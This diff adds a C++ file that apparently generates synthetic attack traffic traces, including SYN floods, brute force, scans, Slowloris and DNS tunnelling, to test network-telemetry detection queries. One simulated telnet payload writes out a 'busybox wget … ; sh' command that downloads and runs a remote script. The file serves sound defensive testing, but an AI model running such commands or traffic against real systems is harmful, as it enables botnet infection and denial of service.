@@ -1,0 +1,256 @@
+#include "trace/attacks.h"
+
+#include <algorithm>
+
+#include "net/headers.h"
+#include "util/ip.h"
+
+namespace sonata::trace {
+
+using net::Packet;
+using net::tcp_flags::kAck;
+using net::tcp_flags::kFin;
+using net::tcp_flags::kPsh;
+using net::tcp_flags::kRst;
+using net::tcp_flags::kSyn;
+using util::Nanos;
+
+namespace {
+
+std::uint32_t spoofed_address(util::Rng& rng) {
+  return util::ipv4(static_cast<std::uint32_t>(rng.uniform(1, 223)),
+                    static_cast<std::uint32_t>(rng.uniform(256)),
+                    static_cast<std::uint32_t>(rng.uniform(256)),
+                    static_cast<std::uint32_t>(rng.uniform(1, 255)));
+}
+
+// Timestamps of a Poisson process with the given rate over [start, start+dur).
+std::vector<Nanos> poisson_times(double start_sec, double duration_sec, double rate,
+                                 util::Rng& rng) {
+  std::vector<Nanos> times;
+  times.reserve(static_cast<std::size_t>(duration_sec * rate * 1.2) + 8);
+  double t = start_sec;
+  const double end = start_sec + duration_sec;
+  for (;;) {
+    t += rng.exponential(rate);
+    if (t >= end) break;
+    times.push_back(util::seconds(t));
+  }
+  return times;
+}
+
+}  // namespace
+
+void inject_syn_flood(std::vector<Packet>& out, const SynFloodConfig& cfg, util::Rng& rng) {
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
+    out.push_back(Packet::tcp(t, spoofed_address(rng), cfg.victim,
+                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
+                              net::ports::kHttp, kSyn, 40));
+  }
+}
+
+void inject_ssh_brute_force(std::vector<Packet>& out, const SshBruteForceConfig& cfg,
+                            util::Rng& rng) {
+  std::vector<std::uint32_t> botnet;
+  botnet.reserve(cfg.source_count);
+  for (std::size_t i = 0; i < cfg.source_count; ++i) botnet.push_back(spoofed_address(rng));
+  std::size_t next_fresh = 0;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.attempts_per_sec, rng)) {
+    const std::uint32_t attacker =
+        next_fresh < botnet.size() ? botnet[next_fresh++] : botnet[rng.uniform(botnet.size())];
+    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
+    Nanos at = t;
+    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kSyn, 40));
+    at += util::kNanosPerMilli * 2;
+    out.push_back(
+        Packet::tcp(at, cfg.victim, attacker, net::ports::kSsh, sport, kSyn | kAck, 40));
+    at += util::kNanosPerMilli;
+    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kAck, 40));
+    // Fixed-size key exchange + failed auth: the size regularity across
+    // many sources is what the SSH brute-force query keys on.
+    at += util::kNanosPerMilli * 3;
+    out.push_back(
+        Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kAck | kPsh, 128));
+    at += util::kNanosPerMilli * 3;
+    out.push_back(
+        Packet::tcp(at, cfg.victim, attacker, net::ports::kSsh, sport, kAck | kPsh, 96));
+    at += util::kNanosPerMilli * 2;
+    out.push_back(Packet::tcp(at, attacker, cfg.victim, sport, net::ports::kSsh, kRst, 40));
+  }
+}
+
+void inject_superspreader(std::vector<Packet>& out, const SuperspreaderConfig& cfg,
+                          util::Rng& rng) {
+  const double rate =
+      static_cast<double>(cfg.distinct_destinations) / std::max(cfg.duration_sec, 1e-6);
+  std::size_t i = 0;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
+    const std::uint32_t dst = spoofed_address(rng);
+    out.push_back(Packet::tcp(t, cfg.spreader, dst,
+                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
+                              net::ports::kHttp, kSyn, 40));
+    if (++i >= cfg.distinct_destinations) break;
+  }
+}
+
+void inject_port_scan(std::vector<Packet>& out, const PortScanConfig& cfg, util::Rng& rng) {
+  const std::size_t ports = static_cast<std::size_t>(cfg.last_port - cfg.first_port) + 1;
+  const double rate = static_cast<double>(ports) / std::max(cfg.duration_sec, 1e-6);
+  std::uint32_t port = cfg.first_port;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
+    out.push_back(Packet::tcp(t, cfg.scanner, cfg.target,
+                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
+                              static_cast<std::uint16_t>(port), kSyn, 40));
+    if (++port > cfg.last_port) break;
+  }
+}
+
+void inject_ddos(std::vector<Packet>& out, const DdosConfig& cfg, util::Rng& rng) {
+  std::vector<std::uint32_t> sources;
+  sources.reserve(cfg.distinct_sources);
+  for (std::size_t i = 0; i < cfg.distinct_sources; ++i) sources.push_back(spoofed_address(rng));
+  std::size_t next_fresh = 0;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
+    // Cycle through fresh sources first so the distinct count actually
+    // reaches cfg.distinct_sources, then reuse randomly.
+    const std::uint32_t src = next_fresh < sources.size()
+                                  ? sources[next_fresh++]
+                                  : sources[rng.uniform(sources.size())];
+    out.push_back(Packet::tcp(t, src, cfg.victim,
+                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)),
+                              net::ports::kHttps, kSyn | kAck, 60));
+  }
+}
+
+void inject_incomplete_flows(std::vector<Packet>& out, const IncompleteFlowsConfig& cfg,
+                             util::Rng& rng) {
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.conns_per_sec, rng)) {
+    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
+    out.push_back(Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kHttp, kSyn, 40));
+    out.push_back(Packet::tcp(t + util::kNanosPerMilli * 2, cfg.victim, cfg.attacker,
+                              net::ports::kHttp, sport, kSyn | kAck, 40));
+    out.push_back(Packet::tcp(t + util::kNanosPerMilli * 3, cfg.attacker, cfg.victim, sport,
+                              net::ports::kHttp, kAck, 40));
+    // ... and then silence: no data, no FIN.
+  }
+}
+
+void inject_slowloris(std::vector<Packet>& out, const SlowlorisConfig& cfg, util::Rng& rng) {
+  for (std::size_t a = 0; a < cfg.attacker_count; ++a) {
+    const std::uint32_t attacker = spoofed_address(rng);
+    for (std::size_t c = 0; c < cfg.conns_per_attacker; ++c) {
+      const double at =
+          cfg.start_sec + rng.uniform01() * cfg.duration_sec * 0.5;  // open early
+      const auto sport = static_cast<std::uint16_t>(10000 + c);
+      Nanos t = util::seconds(at);
+      out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kSyn, 40));
+      t += util::kNanosPerMilli * 2;
+      out.push_back(
+          Packet::tcp(t, cfg.victim, attacker, net::ports::kHttp, sport, kSyn | kAck, 40));
+      t += util::kNanosPerMilli;
+      out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kAck, 40));
+      // Trickle: a few tiny header fragments over the rest of the window.
+      const int trickles = 1 + static_cast<int>(rng.uniform(3));
+      for (int i = 0; i < trickles; ++i) {
+        t += util::seconds(rng.uniform01() * cfg.duration_sec / 4);
+        out.push_back(Packet::tcp(t, attacker, cfg.victim, sport, net::ports::kHttp, kAck | kPsh,
+                                  41));  // 1-byte payload
+      }
+    }
+  }
+}
+
+void inject_zorro(std::vector<Packet>& out, const ZorroConfig& cfg, util::Rng& rng) {
+  const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
+  for (const Nanos t :
+       poisson_times(cfg.start_sec, cfg.probe_duration_sec, cfg.probe_pps, rng)) {
+    // Brute-force login attempts: similar-sized telnet payloads.
+    const std::uint16_t len = static_cast<std::uint16_t>(
+        cfg.probe_payload_bytes + rng.uniform(8));  // same bucket after rounding
+    Packet p = Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kTelnet, kAck | kPsh,
+                           0);
+    p.with_payload(std::string(len, 'A'));
+    out.push_back(p);
+  }
+  Nanos t = util::seconds(cfg.shell_at_sec);
+  for (int i = 0; i < cfg.shell_packets; ++i) {
+    Packet p =
+        Packet::tcp(t, cfg.attacker, cfg.victim, sport, net::ports::kTelnet, kAck | kPsh, 0);
+    p.with_payload("busybox wget http://198.51.100.7/zorro.sh; sh zorro.sh #" +
+                   std::to_string(i));
+    out.push_back(p);
+    t += util::kNanosPerMilli * 150;
+  }
+}
+
+void inject_dns_tunnel(std::vector<Packet>& out, const DnsTunnelConfig& cfg, util::Rng& rng) {
+  static const char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
+  std::uint64_t counter = 0;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.queries_per_sec, rng)) {
+    // Each query smuggles a chunk: long random label under the parent.
+    std::string label;
+    label.reserve(40);
+    for (int i = 0; i < 36; ++i) label.push_back(kAlphabet[rng.uniform(36)]);
+    net::DnsMessage q;
+    q.id = static_cast<std::uint16_t>(counter++ & 0xffff);
+    q.qname = label + "." + cfg.parent_domain;
+    q.qtype = net::dns_types::kTxt;
+    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
+    out.push_back(Packet::udp(t, cfg.client, cfg.resolver, sport, net::ports::kDns, 0)
+                      .with_dns(q));
+    net::DnsMessage r = q;
+    r.is_response = true;
+    r.extra_answer_bytes = static_cast<std::uint16_t>(120 + rng.uniform(64));
+    out.push_back(Packet::udp(t + util::kNanosPerMilli * 8, cfg.resolver, cfg.client,
+                              net::ports::kDns, sport, 0)
+                      .with_dns(r));
+  }
+}
+
+void inject_dns_reflection(std::vector<Packet>& out, const DnsReflectionConfig& cfg,
+                           util::Rng& rng) {
+  std::vector<std::uint32_t> reflectors;
+  reflectors.reserve(cfg.reflector_count);
+  for (std::size_t i = 0; i < cfg.reflector_count; ++i) {
+    reflectors.push_back(spoofed_address(rng));
+  }
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, cfg.pps, rng)) {
+    net::DnsMessage r;
+    r.id = static_cast<std::uint16_t>(rng.uniform(65536));
+    r.qname = "anydomain" + std::to_string(rng.uniform(16)) + ".example.org";
+    r.qtype = net::dns_types::kAny;
+    r.is_response = true;
+    r.extra_answer_bytes = static_cast<std::uint16_t>(
+        cfg.amplification_bytes + rng.uniform(128));
+    out.push_back(Packet::udp(t, reflectors[rng.uniform(reflectors.size())], cfg.victim,
+                              net::ports::kDns,
+                              static_cast<std::uint16_t>(rng.uniform(1024, 65535)), 0)
+                      .with_dns(r));
+  }
+}
+
+void inject_malicious_domain(std::vector<Packet>& out, const MaliciousDomainConfig& cfg,
+                             util::Rng& rng) {
+  const double rate =
+      static_cast<double>(cfg.distinct_resolutions) / std::max(cfg.duration_sec, 1e-6);
+  std::size_t i = 0;
+  for (const Nanos t : poisson_times(cfg.start_sec, cfg.duration_sec, rate, rng)) {
+    const std::uint32_t client = spoofed_address(rng);
+    const auto sport = static_cast<std::uint16_t>(rng.uniform(1024, 65535));
+    net::DnsMessage q;
+    q.id = static_cast<std::uint16_t>(rng.uniform(65536));
+    q.qname = cfg.domain;
+    q.qtype = net::dns_types::kA;
+    out.push_back(Packet::udp(t, client, cfg.resolver, sport, net::ports::kDns, 0).with_dns(q));
+    net::DnsMessage r = q;
+    r.is_response = true;
+    r.answer_addrs.push_back(spoofed_address(rng));  // fresh address each time
+    out.push_back(Packet::udp(t + util::kNanosPerMilli * 9, cfg.resolver, client,
+                              net::ports::kDns, sport, 0)
+                      .with_dns(r));
+    if (++i >= cfg.distinct_resolutions) break;
+  }
+  (void)cfg.client_count;
+}
+
+}  // namespace sonata::trace
